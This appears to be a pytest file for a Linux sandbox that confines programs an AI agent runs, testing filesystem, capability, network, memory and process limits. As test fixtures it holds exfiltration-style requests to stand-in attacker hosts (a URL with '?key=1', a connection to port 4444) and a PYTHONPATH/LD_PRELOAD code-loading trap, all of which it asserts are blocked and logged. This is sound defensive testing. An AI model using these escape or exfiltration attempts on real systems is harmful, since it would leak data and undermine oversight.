"""What a held program can reach: its model, its copy, and nothing else."""

from __future__ import annotations

import errno
import os
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from pawl.evals.holding import Hold, Ways
from pawl.world.confinement import Confinement, why_not

_WHY = "" if sys.platform != "linux" else why_not()
pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or bool(_WHY), reason=_WHY or "namespaces are Linux's"
)
ENVIRONMENT = {"PATH": os.environ["PATH"], "HOME": "/nowhere"}


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A folder that may be written to, with a workspace and one for temporary files."""
    for name in ("workspace", "tmp"):
        (tmp_path / "place" / name).mkdir(parents=True)
    return tmp_path / "place"


def _hold(place: Path, **changed: object) -> Hold:
    fields = {
        "part": True,
        "network": "none",
        "writable": (str(place),),
        "tmp": str(place / "tmp"),
        "needed": (sys.prefix, sys.base_prefix),
    } | changed
    return Hold(**fields)  # type: ignore[arg-type]


def _python(place: Path, code: str, hold: Hold, timeout_s: float = 30.0) -> str:
    (place / "workspace" / "code.py").write_text(code)
    with Confinement(hold, Ways()) as confinement:
        end = confinement.run(
            f"{sys.executable} -I code.py 2>&1",
            folder=str(place / "workspace"),
            environment=ENVIRONMENT,
            timeout_s=timeout_s,
        )
    assert end.status == 0, end.output
    return end.output.decode()


@contextmanager
def _echo() -> Iterator[int]:
    """A server on loopback that says hello to everybody."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def answer() -> None:
            while True:
                try:
                    one, _ = server.accept()
                except OSError:
                    return
                with one:
                    one.sendall(b"hello")

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_only_the_copy_can_be_written(place: Path, tmp_path: Path) -> None:
    """Outside of its place nothing changes, /tmp is the place's own, and devices still work."""
    outside = tmp_path / "outside"
    code = f"""
for path in ("/etc/planted", "{place}/workspace/mine", "/tmp/own", "/dev/null", "{outside}"):
    try:
        open(path, "w").write("x")
        print("wrote")
    except OSError as error:
        print(error.errno)
"""
    said = _python(place, code, _hold(place)).split()
    assert said[0] == str(errno.EROFS)
    assert said[1:] == ["wrote"] * 4
    assert not outside.exists()  # It lies below /tmp, and so was written to the place's own.
    assert (place / "tmp" / "own").read_text() == "x"
    assert not Path("/tmp/own").exists()


def test_no_powers_are_left_and_none_can_be_had(place: Path) -> None:
    """A held program cannot mount, and no set-user-ID program gives it anything."""
    code = """
status = dict(line.split(":\\t") for line in open("/proc/self/status") if ":\\t" in line)
print(status["CapEff"].strip(), status["CapBnd"].strip(), status["NoNewPrivs"].strip())
"""
    assert _python(place, code, _hold(place)).split() == ["0" * 16, "0" * 16, "1"]


def test_sockets_of_other_programs_are_covered(place: Path, tmp_path: Path) -> None:
    """A socket in the file system, which a network namespace does not part, answers nobody."""
    path = tmp_path / "service.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as service:
        service.bind(str(path))
        service.listen()
        code = f"""
import socket
try:
    socket.socket(socket.AF_UNIX).connect("{path}")
    print("reached")
except OSError as error:
    print(type(error).__name__)
"""
        kept = (*_hold(place).needed, str(tmp_path))
        said = _python(place, code, _hold(place, needed=kept))
    assert said.strip() == "ConnectionRefusedError"


def test_commands_have_no_network_at_all(place: Path) -> None:
    """Neither this machine's own services nor any address can be reached."""
    with _echo() as port:
        code = f"""
import socket
for address in (("127.0.0.1", {port}), ("192.0.2.7", 443)):
    try:
        socket.create_connection(address, 5)
        print("reached")
    except OSError as error:
        print(type(error).__name__)
"""
        said = _python(place, code, _hold(place)).split()
    assert said == ["ConnectionRefusedError", "ConnectionRefusedError"]


def test_memory_is_limited(place: Path) -> None:
    """A program that asks for more memory than it may have does not get it."""
    code = """
try:
    bytearray(200 * 1024 * 1024)
    print("got it")
except MemoryError:
    print("none")
"""
    assert _python(place, code, _hold(place, memory=128 * 1024 * 1024)).strip() == "none"
    assert _python(place, code, _hold(place)).strip() == "got it"


def test_a_command_is_ended_with_all_it_started(place: Path) -> None:
    """A command that takes too long is ended; what it left behind is gone when `run` returns."""
    mark = place / "workspace" / "alive"
    with Confinement(_hold(place), Ways()) as confinement:
        loop = f"(while :; do date +%s%N > {mark}; sleep 0.01; done) &"
        quick = confinement.run(
            f"{loop} exit 3", folder=str(place), environment=ENVIRONMENT, timeout_s=30
        )
        late = confinement.run(
            "echo begun; exec sleep 60", folder=str(place), environment=ENVIRONMENT, timeout_s=0.5
        )
    assert (quick.status, quick.timed_out) == (3, False)
    assert (late.status, late.timed_out, late.output) == (None, True, b"begun\n")
    left = [
        line
        for pid in os.listdir("/proc")
        if pid.isdigit() and str(mark) in (line := _command_line(pid))
    ]
    assert left == []


def _command_line(pid: str) -> str:
    try:
        return Path("/proc", pid, "cmdline").read_text(errors="replace")
    except OSError:
        return ""


def test_the_way_out_leads_to_the_model_and_attempts_past_it_are_seen(place: Path) -> None:
    """The agent reaches its model at its own address; hosts are denied, and each try is told."""
    with _echo() as port:
        code = f"""
import socket, urllib.request
print(socket.create_connection(("127.0.0.1", {port}), 5).recv(5).decode())
for url in ("http://collect.attacker.test/?key=1", "https://other.test/"):
    try:
        urllib.request.urlopen(url, timeout=5)
    except OSError as error:
        print("denied")
for act in (
    lambda: socket.create_connection(("192.0.2.7", 4444), 5),
    lambda: socket.getaddrinfo("name.attacker.test", 443),
):
    try:
        act()
    except OSError:
        print("failed")
"""
        (place / "workspace" / "code.py").write_text(code)
        ways = Ways(hosts=("allowed.test",), forward=("127.0.0.1", port))
        environment = ENVIRONMENT | dict.fromkeys(
            ("http_proxy", "https_proxy"), f"http://127.0.0.1:{ways.proxy_port}"
        )
        with Confinement(_hold(place), ways) as confinement:
            tree = confinement.tree()
            child = tree.spawn(
                [sys.executable, "-I", "code.py"],
                environment=environment,
                folder=str(place / "workspace"),
            )
            try:
                while child.status is None:
                    tree.reap()
                said = os.read(child.stdout, 10_000).decode().split()
            finally:
                tree.kill()
                child.close()
            seen = confinement.finish()
    assert said == ["hello", "denied", "denied", "failed", "failed"]
    assert seen.network_denied
    assert seen.did("files")
    assert not seen.lost
    told = {(each.host, each.port, each.allowed) for each in seen.egress}
    assert {
        ("127.0.0.1", port, True),
        ("collect.attacker.test", 80, False),
        ("other.test", 443, False),
        ("192.0.2.7", 4444, False),
    } <= told
    assert any("/?key=1" in head for head in seen.heads)


def test_a_program_that_cannot_be_held_is_not_started(place: Path) -> None:
    """Where a folder that it needs is missing, nothing runs, and the report says why."""
    hold = _hold(place, writable=(str(place / "missing"),))
    with Confinement(hold, Ways()) as confinement:
        end = confinement.run("echo ran", folder=str(place), environment=ENVIRONMENT, timeout_s=30)
        seen = confinement.finish()
    assert end.status == 97
    assert b"ran" not in end.output
    assert "missing" in seen.failure
    assert not seen.network_denied


def test_an_environment_loads_nothing_into_what_holds(place: Path, tmp_path: Path) -> None:
    """Variables that load code reach the held program, and not the one that does the holding."""
    trap = place / "workspace" / "sitecustomize.py"
    trap.write_text(f"open({str(tmp_path / 'escaped')!r}, 'w').write('x')\n")
    environment = ENVIRONMENT | {"PYTHONPATH": str(trap.parent), "LD_PRELOAD": "/no/such.so"}
    with Confinement(_hold(place), Ways()) as confinement:
        end = confinement.run(
            "echo $PYTHONPATH $LD_PRELOAD",
            folder=str(place),
            environment=environment,
            timeout_s=30,
        )
    said = [line for line in end.output.decode().splitlines() if "ERROR: ld.so" not in line]
    assert said == [f"{trap.parent} /no/such.so"]
    assert not (tmp_path / "escaped").exists()
    assert end.output.count(b"ERROR: ld.so") == 1  # Of the shell alone.
